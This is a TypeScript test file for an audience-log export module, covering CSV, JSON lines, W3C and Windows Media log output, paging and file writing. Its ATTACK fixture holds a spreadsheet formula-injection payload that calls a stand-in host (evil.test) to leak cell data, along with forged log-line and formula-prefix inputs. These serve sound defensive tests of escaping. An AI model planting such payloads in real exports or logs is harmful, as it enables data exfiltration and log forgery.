import assert from 'node:assert/strict'
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, it, type TestContext } from 'node:test'
import { gunzipSync } from 'node:zlib'
import fc from 'fast-check'
import type { PlayEvent } from '../../../playlog/play-event.ts'
import { playLogOf } from '../../../playlog/play-log.ts'
import { LINE_44, LINE_47 } from '../../../playlog/vectors.ts'
import { parseWmlogLine } from '../../../playlog/wmlog-line.ts'
import { wmlogToEvent } from '../../../playlog/wmlog-to-event.ts'
import { SqliteAudienceStore } from '../store/sqlite-store.ts'
import { StoreThread } from '../store/store-thread.ts'
import { batchesOf, GOLDEN_SESSIONS, GOLDEN_START, goldenEvents } from '../store/vectors.ts'
import { formatCsvCell, formatCsvLine } from './csv.ts'
import { type AudienceExport, type ExportRequest, exportAudience, textOfExport } from './export-audience.ts'
import { writeExportFiles } from './export-files.ts'
import { formatJsonLine } from './json-lines.ts'

const FILTER = { from: GOLDEN_START, until: GOLDEN_START + 180_000, now: GOLDEN_START + 3_600_000 }
const ATTACK: PlayEvent = {
  sessionId: '=HYPERLINK("http://evil.test?"&A1)',
  kind: 'error',
  source: 'cmcd',
  time: GOLDEN_START,
  receivedAt: GOLDEN_START,
  path: 'live/a b\n#Fields: x',
  userAgent: '\t=1+1;@SUM(A1)\r\n2026-11-25 20:00:00 forged',
  errors: ['-2+3', '“ü”'],
}

async function storeWith(t: TestContext, events: readonly PlayEvent[]): Promise<SqliteAudienceStore> {
  const store = new SqliteAudienceStore(':memory:')
  t.after(() => store.close())
  for (const batch of batchesOf(events, { size: 500 })) await store.commit([batch])
  while (await store.settle()) continue
  return store
}

function open(
  store: SqliteAudienceStore | StoreThread,
  request: Pick<ExportRequest, 'what' | 'format'>,
): AudienceExport {
  return exportAudience(store, { filter: FILTER, software: 'Headend 1.2', ...request }) ?? assert.fail()
}

async function textOf(store: SqliteAudienceStore, request: Pick<ExportRequest, 'what' | 'format'>): Promise<string> {
  return allOf(textOfExport(open(store, request)))
}

async function allOf(pieces: AsyncIterable<string>): Promise<string> {
  let text = ''
  for await (const piece of pieces) text += piece
  return text
}

/** Rows and cells of a text in RFC 4180, by a reader that knows nothing of its writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
  let row: string[] = []
  while (pattern.lastIndex < text.length) {
    const found = pattern.exec(text)
    assert.ok(found !== null, 'RFC 4180')
    row.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '')
    if (found[3] === ',') continue
    rows.push(row)
    row = []
  }
  assert.deepEqual(row, [])
  return rows
}

describe('sessions and events', () => {
  it('are exported as CSV', async (t) => {
    const store = await storeWith(t, [...(GOLDEN_SESSIONS['a'] ?? []), ...(GOLDEN_SESSIONS['d'] ?? [])])

    const [head, ...sessions] = parseCsv(await textOf(store, { what: 'sessions', format: 'csv' }))
    const events = parseCsv(await textOf(store, { what: 'events', format: 'csv' }))

    const told = sessions.map((row) => Object.fromEntries(row.map((cell, at) => [head?.[at], cell])))
    assert.deepEqual(
      told.map(({ session, start, outcome, startup_ms, played_ms, bitrate_kbps, bytes, errors, address }) =>
        [session, start, outcome, startup_ms, played_ms, bitrate_kbps, bytes, errors, address].join(' '),
      ),
      [
        'd 2026-11-25T20:01:01.000Z start-failure  0   2 ',
        'a 2026-11-25T20:00:00.000Z ended 1000 109000 2101  0 192.0.2.0',
      ],
    )
    assert.equal(events.length, 1 + 2 + 5)
    assert.ok(events.every(({ length }) => length === events[0]?.length))
    assert.deepEqual(events[2]?.slice(0, 6), [
      'd',
      '2026-11-25T20:01:03.000Z',
      '2026-11-25T20:01:03.040Z',
      'cmcd',
      'error',
      '1',
    ])
    assert.ok(events[2]?.includes('404 manifest'))
  })

  it('are exported as JSON lines, all that is known', async (t) => {
    const store = await storeWith(t, [...goldenEvents(), { ...ATTACK, reason: 'a\u2028b' }])

    const events = await textOf(store, { what: 'events', format: 'jsonl' })
    const sessions = await textOf(store, { what: 'sessions', format: 'jsonl' })

    const lines = events.trimEnd().split(/[\n\u0085\u2028\u2029]/)
    assert.deepEqual(
      lines.map((line): unknown => JSON.parse(line)).filter((event) => (event as PlayEvent).sessionId === 'a'),
      GOLDEN_SESSIONS['a'],
    )
    assert.ok(lines.some((line) => (JSON.parse(line) as PlayEvent).reason === 'a\u2028b'))
    const { sessions: listed } = await store.sessions({ ...FILTER, limit: 100 })
    assert.deepEqual(
      sessions
        .trimEnd()
        .split('\n')
        .map((line): unknown => JSON.parse(line)),
      listed.map((session): unknown => JSON.parse(JSON.stringify(session))),
    )
  })

  it('are exported as W3C extended log files', async (t) => {
    const store = await storeWith(t, [...(GOLDEN_SESSIONS['c'] ?? []), ATTACK])

    const text = await textOf(store, { what: 'events', format: 'w3c' })
    const sessions = await textOf(store, { what: 'sessions', format: 'w3c' })

    const [version, software, date, fields, ...lines] = text.trimEnd().split('\n')
    assert.deepEqual(
      [version, software, date],
      ['#Version: 1.0', '#Software: Headend 1.2', '#Date: 2026-11-25 21:00:00'],
    )
    const names = fields?.split(' ').slice(1) ?? []
    assert.deepEqual(names.slice(0, 3), ['date', 'time', 'x-session'])
    assert.ok(lines.every((line) => line.split(' ').length === names.length))
    assert.deepEqual(
      lines.map((line) => line.split(' ').slice(0, 5).join(' ')),
      [
        '2026-11-25 20:00:00 =HYPERLINK("http://evil.test?"&A1) 2026-11-25T20:00:00.000Z 2026-11-25T20:00:00.000Z',
        '2026-11-25 20:00:20 c 2026-11-25T20:00:20.000Z 2026-11-25T20:00:20.040Z',
        '2026-11-25 20:00:24 c 2026-11-25T20:00:24.000Z 2026-11-25T20:00:24.040Z',
      ],
    )
    assert.equal(lines[0]?.split(' ')[names.indexOf('cs-uri-stem')], 'live/a%20b%0A#Fields:%20x')
    assert.equal(sessions.trimEnd().split('\n').length, 4 + 2)
  })

  it('are exported as the very lines that Windows Media players sent', async (t) => {
    const received = { receivedAt: new Date(GOLDEN_START), remoteAddress: '192.0.2.7', protocol: 'wmsp', path: 'a.wmv' }
    const events = [LINE_47, LINE_44].map((line, at): PlayEvent => {
      const event = wmlogToEvent(playLogOf(parseWmlogLine(line), received), `s${at}`)
      return { ...event, time: GOLDEN_START }
    })
    const cut = { ...(events[0] ?? assert.fail()), sessionId: 'cut', original: LINE_47.slice(0, 200) }
    const store = await storeWith(t, [...events, cut, ...goldenEvents()])

    const lines = (await textOf(store, { what: 'events', format: 'wms' })).trimEnd().split('\n')

    assert.match(lines[3] ?? '', /^#Fields: c-ip date time c-dns cs-uri-stem /)
    assert.deepEqual(lines.slice(4).toSorted(), [`${LINE_44} - - -`, LINE_47].toSorted())
    assert.equal(exportAudience(store, { what: 'sessions', format: 'wms', filter: FILTER, software: '' }), undefined)
  })

  it('are asked for page by page, as they are taken', async (t) => {
    const store = await storeWith(
      t,
      Array.from({ length: 1300 }, (_, at) => ({ ...ATTACK, sessionId: `s${at}` })),
    )
    for (const what of ['sessions', 'events'] as const) {
      const sizes: number[] = []
      for await (const text of open(store, { what, format: 'jsonl' }).lines)
        sizes.push(text.trimEnd().split('\n').length)
      assert.equal(
        sizes.reduce((sum, size) => sum + size),
        1300,
      )
      assert.ok(sizes.length === 3 && Math.max(...sizes) <= 500, what)
    }

    const { lines } = open(store, { what: 'events', format: 'jsonl' })
    await lines.next()
    // What is asked next is asked of what is there then.
    await store.erase('s0', FILTER.now)
    assert.equal((await allOf(lines)).trimEnd().split('\n').length, 799)
  })

  it('end with an error where the store does', async (t) => {
    const folder = folderFor(t)
    const thread = new StoreThread(join(folder, 'audience.sqlite'))
    await thread.commit(batchesOf(Array.from({ length: 600 }, (_, at) => ({ ...ATTACK, sessionId: `s${at}` }))))
    const { lines } = open(thread, { what: 'sessions', format: 'csv' })
    await lines.next()

    await thread.close()

    await assert.rejects(lines.next(), { name: 'UnavailableError', code: 'ERR_AUDIENCE_STORE' })
  })
})

describe('a cell of CSV', () => {
  it('is text as it was, where that does no harm', () => {
    assert.equal(
      formatCsvLine(['a', 'b,c', 'say "x"', -5, 0.25, undefined, '']),
      '"a","b,c","say ""x""",-5,0.25,,""\r\n',
    )
  })

  it('begins no formula, wherever a spreadsheet splits', () => {
    for (const [text, cell] of [
      ['=1+1', `"'=1+1"`],
      [' @SUM(A1)', `"' @SUM(A1)"`],
      ['-', `"'-"`],
      ['a;=1', `"a;'=1"`],
      ['x","=1', `"x"",""'=1"`],
      ['＝1', `"'＝1"`],
      ['\t=1\r\n+2', `"_=1__+2"`],
      ['a-b=c', '"a-b=c"'],
    ] as const) {
      assert.equal(formatCsvCell(text), cell)
    }
  })

  it('is one cell of one row, whatever is in it, and no formula in any of its parts', () => {
    const signs = fc.constantFrom(...Array.from('=+-@;,|"\'\t\r\n \0＝＠\u2028a1\ud800'))
    const texts = fc.array(fc.oneof(fc.string({ unit: signs }), fc.string({ unit: 'binary' })), { minLength: 1 })

    fc.assert(
      fc.property(texts, (cells) => {
        const line = formatCsvLine(cells)
        const rows = parseCsv(line)
        assert.deepEqual([rows.length, rows[0]?.length], [1, cells.length])
        assert.ok(!/[\p{Cc}\u2028]/u.test(line.slice(0, -2)))
        for (const separator of [/,/, /;/, /\|/, /"/, /[,;|"]/]) {
          for (const piece of line.split(separator))
            assert.doesNotMatch(piece.replaceAll('"', '').trimStart(), /^[=+\-@＝＋－＠]/)
        }
        const plain = (text: string) => text.replace(/[^\p{L}\p{N}]/gu, '')
        assert.deepEqual(
          rows[0]?.map(plain),
          cells.map((cell) => plain(cell.toWellFormed())),
        )
      }),
    )
  })
})

describe('a line of JSON', () => {
  it('gives its row again, and is one line for everybody', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const line = formatJsonLine({ text })
        assert.deepEqual(JSON.parse(line), { text })
        assert.match(line, /^[^\n\r\u0085\u2028\u2029]*\n$/)
      }),
    )
  })
})

describe('files of an export', () => {
  const request = { what: 'events', format: 'w3c' } as const
  const many = Array.from({ length: 2000 }, (_, at) => ({ ...ATTACK, sessionId: `s${at}` }))

  it('are compressed, and each begins anew when the last is large enough', async (t) => {
    const store = await storeWith(t, many)
    const folder = join(folderFor(t), 'exports')

    const paths = await writeExportFiles(open(store, request), { folder, name: 'events', maxBytes: 200_000 })

    assert.deepEqual(readdirSync(folder), ['events_0001.log.gz', 'events_0002.log.gz', 'events_0003.log.gz'])
    assert.deepEqual(
      paths,
      readdirSync(folder).map((name) => join(folder, name)),
    )
    const texts = paths.map((path) => gunzipSync(readFileSync(path)).toString())
    const { head } = open(store, request)
    assert.ok(texts.every((text) => text.startsWith(head)))
    assert.equal(head + texts.map((text) => text.slice(head.length)).join(''), await textOf(store, request))
    assert.ok(paths.every((path) => (statSync(path).mode & 0o077) === 0))
  })

  it('are plain where that is asked for, and there where there is nothing', async (t) => {
    const store = await storeWith(t, [])
    const folder = folderFor(t)

    const [path = ''] = await writeExportFiles(open(store, request), { folder, name: 'none', compress: false })

    assert.equal(readFileSync(path, 'utf8'), open(store, request).head)
  })

  it('take the place of no other, and are not there before they are whole', async (t) => {
    const folder = folderFor(t)
    const store = new StoreThread(join(folder, 'audience.sqlite'))
    for (const batch of batchesOf(many, { size: 1000 })) await store.commit([batch])
    writeFileSync(join(folder, 'old_0001.log.gz'), 'mine')

    await assert.rejects(writeExportFiles(open(store, request), { folder, name: 'old' }), {
      code: 'ERR_AUDIENCE_EXPORT',
    })
    const exported = open(store, request)
    await exported.lines.next()
    await store.close()
    await assert.rejects(writeExportFiles(exported, { folder, name: 'new' }), { code: 'ERR_AUDIENCE_STORE' })

    assert.equal(readFileSync(join(folder, 'old_0001.log.gz'), 'utf8'), 'mine')
    assert.deepEqual(
      readdirSync(folder).filter((name) => /part|new/.test(name)),
      [],
    )
  })
})

function folderFor(t: TestContext): string {
  const folder = mkdtempSync(join(tmpdir(), 'exports-'))
  t.after(() => rmSync(folder, { recursive: true, force: true }))
  return folder
}
